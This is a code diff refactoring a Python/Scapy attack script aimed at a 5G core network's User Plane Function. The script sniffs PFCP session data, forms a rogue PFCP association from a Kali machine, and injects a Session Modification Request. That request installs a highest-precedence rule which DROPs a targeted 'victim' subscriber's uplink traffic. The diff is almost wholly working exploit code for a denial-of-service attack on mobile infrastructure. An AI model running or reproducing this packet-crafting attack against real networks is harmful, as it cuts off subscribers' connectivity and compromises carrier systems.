@@ -18,6 +18,56 @@ ASSOCIATION_SUCCESSFUL = Event()
 STOP_THREAD = Event()
 RECON_DATA = {}
 
+# --- PFCP message builders (return the raw PFCP bytes, no IP/UDP) ---
+def build_pfcp_heartbeat_response(seq_num_bytes, recovery_ts=None):
+    """ Heartbeat Response echoing the request's 3-byte sequence number + spare byte. """
+    if recovery_ts is None:
+        recovery_ts = int(time.time())
+    ie_recovery_ts = b"\x00\x60\x00\x04" + struct.pack('!I', recovery_ts)
+    return b"\x20\x02" + struct.pack('!H', len(ie_recovery_ts) + 4) + seq_num_bytes + ie_recovery_ts
+
+def build_pfcp_association_setup_request(node_ip, seq_num_bytes=b"\x00\x00\x00\x01", recovery_ts=None):
+    """ Association Setup Request with an IPv4 Node ID and Recovery Time Stamp. """
+    if recovery_ts is None:
+        recovery_ts = int(time.time())
+    ie_node_id = b"\x00\x3c\x00\x05\x00" + socket.inet_aton(node_ip)
+    ie_recovery_ts = b"\x00\x60\x00\x04" + struct.pack('!I', recovery_ts)
+    assoc_payload = ie_node_id + ie_recovery_ts
+    return b"\x20\x05" + struct.pack('!H', len(assoc_payload) + 4) + seq_num_bytes + assoc_payload
+
+def build_pfcp_session_modification_request(victim_teid, victim_gnb_ip, upf_seid, ue_ip=TARGET_UE_IP, seq_num=3):
+    """
+    Session Modification Request adding PDR 100 / FAR 100 that DROPs the
+    UE's uplink traffic (matched on the gNB F-TEID and UE IP).
+    """
+    pdr_id = b"\x00\x38\x00\x02" + (100).to_bytes(2, 'big') # PDR ID 100
+    precedence = b"\x00\x1d\x00\x04" + (1).to_bytes(4, 'big') # Precedence 1 (highest)
+    
+    # --- THIS IS THE FIX ---
+    # Source Interface must be "Access" (0) to match traffic from the gNB.
+    pdi_source_if = b"\x00\x14\x00\x01\x00"
+    
+    # F-TEID flags: V4=1, V6=0 -> 0x81
+    pdi_fteid = b"\x00\x15" + struct.pack('!H', 9) + b"\x81" + victim_teid.to_bytes(4, 'big') + socket.inet_aton(victim_gnb_ip)
+    pdi_ue_ip = b"\x00\x5d" + struct.pack('!H', 5) + b"\x02" + socket.inet_aton(ue_ip)
+    pdi_body = pdi_source_if + pdi_fteid + pdi_ue_ip
+    pdi = b"\x00\x02" + struct.pack('!H', len(pdi_body)) + pdi_body
+    
+    far_id_val = 100
+    far_id_ie = b"\x00\x6c\x00\x04" + far_id_val.to_bytes(4, 'big') # FAR ID 100
+    
+    apply_action_drop = b"\x00\x2c\x00\x01\x01" # Action: DROP
+    create_far_body = far_id_ie + apply_action_drop
+    create_far = b"\x00\x03" + struct.pack('!H', len(create_far_body)) + create_far_body
+
+    create_pdr_body = pdr_id + precedence + pdi + far_id_ie
+    create_pdr = b"\x00\x01" + struct.pack('!H', len(create_pdr_body)) + create_pdr_body
+
+    payload_ies = create_pdr + create_far
+
+    header = b"\x21\x34" + struct.pack('!H', len(payload_ies) + 12) + struct.pack('!Q', upf_seid) + seq_num.to_bytes(3, 'big') + b'\x00'
+    return header + payload_ies
+
 def reconnaissance_handler(pkt):
     """
     Sniffs for a PFCP Session Establishment Response to extract all necessary data.
@@ -61,9 +111,7 @@ def pfcp_response_handler(pkt, target_upf_ip):
             ASSOCIATION_SUCCESSFUL.set()
     elif message_type == 1:
         seq_num_bytes = payload[4:8]
-        ie_recovery_ts = b"\x00\x60\x00\x04" + struct.pack('!I', int(time.time()))
-        response_header = b"\x20\x02" + struct.pack('!H', len(ie_recovery_ts) + 4) + seq_num_bytes
-        response_packet = IP(src=KALI_IP, dst=target_upf_ip)/UDP(sport=PFCP_PORT, dport=PFCP_PORT)/Raw(load=response_header + ie_recovery_ts)
+        response_packet = IP(src=KALI_IP, dst=target_upf_ip)/UDP(sport=PFCP_PORT, dport=PFCP_PORT)/Raw(load=build_pfcp_heartbeat_response(seq_num_bytes))
         send(response_packet, verbose=0, iface=KALI_INTERFACE)
 
 def send_pfcp_modification_request(target_upf_ip, victim_teid, victim_gnb_ip, upf_seid):
@@ -72,34 +120,8 @@ def send_pfcp_modification_request(target_upf_ip, victim_teid, victim_gnb_ip, up
     """
     print(f"[*] Sending final MODIFICATION rule for IP {TARGET_UE_IP} using UPF SEID {hex(upf_seid)}...")
 
-    pdr_id = b"\x00\x38\x00\x02" + (100).to_bytes(2, 'big') # PDR ID 100
-    precedence = b"\x00\x1d\x00\x04" + (1).to_bytes(4, 'big') # Precedence 1 (highest)
-    
-    # --- THIS IS THE FIX ---
-    # Source Interface must be "Access" (0) to match traffic from the gNB.
-    pdi_source_if = b"\x00\x14\x00\x01\x00"
-    
-    # F-TEID flags: V4=1, V6=0 -> 0x81
-    pdi_fteid = b"\x00\x15" + struct.pack('!H', 9) + b"\x81" + victim_teid.to_bytes(4, 'big') + socket.inet_aton(victim_gnb_ip)
-    pdi_ue_ip = b"\x00\x5d" + struct.pack('!H', 5) + b"\x02" + socket.inet_aton(TARGET_UE_IP)
-    pdi_body = pdi_source_if + pdi_fteid + pdi_ue_ip
-    pdi = b"\x00\x02" + struct.pack('!H', len(pdi_body)) + pdi_body
-    
-    far_id_val = 100
-    far_id_ie = b"\x00\x6c\x00\x04" + far_id_val.to_bytes(4, 'big') # FAR ID 100
-    
-    apply_action_drop = b"\x00\x2c\x00\x01\x01" # Action: DROP
-    create_far_body = far_id_ie + apply_action_drop
-    create_far = b"\x00\x03" + struct.pack('!H', len(create_far_body)) + create_far_body
-
-    create_pdr_body = pdr_id + precedence + pdi + far_id_ie
-    create_pdr = b"\x00\x01" + struct.pack('!H', len(create_pdr_body)) + create_pdr_body
-
-    payload_ies = create_pdr + create_far
-
-    seq_num = 3
-    header = b"\x21\x34" + struct.pack('!H', len(payload_ies) + 12) + struct.pack('!Q', upf_seid) + seq_num.to_bytes(3, 'big') + b'\x00'
-    packet = IP(src=KALI_IP, dst=target_upf_ip)/UDP(sport=PFCP_PORT, dport=PFCP_PORT)/Raw(load=header + payload_ies)
+    pfcp = build_pfcp_session_modification_request(victim_teid, victim_gnb_ip, upf_seid)
+    packet = IP(src=KALI_IP, dst=target_upf_ip)/UDP(sport=PFCP_PORT, dport=PFCP_PORT)/Raw(load=pfcp)
 
     send(packet, verbose=0, iface=KALI_INTERFACE)
 
@@ -129,11 +151,7 @@ def main():
     handler_thread.start()
 
     print("--- Phase 2: Attempting PFCP Association with UPF ---")
-    ie_node_id = b"\x00\x3c\x00\x05\x00" + socket.inet_aton(KALI_IP)
-    ie_recovery_ts = b"\x00\x60\x00\x04" + struct.pack('!I', int(time.time()))
-    assoc_payload = ie_node_id + ie_recovery_ts
-    assoc_header = b"\x20\x05" + struct.pack('!H', len(assoc_payload) + 4) + b"\x00\x00\x00\x01"
-    assoc_packet = IP(src=KALI_IP, dst=target_upf_ip)/UDP(sport=PFCP_PORT, dport=PFCP_PORT)/Raw(load=assoc_header + assoc_payload)
+    assoc_packet = IP(src=KALI_IP, dst=target_upf_ip)/UDP(sport=PFCP_PORT, dport=PFCP_PORT)/Raw(load=build_pfcp_association_setup_request(KALI_IP))
     send(assoc_packet, verbose=0, iface=KALI_INTERFACE)
 
     if not ASSOCIATION_SUCCESSFUL.wait(timeout=5):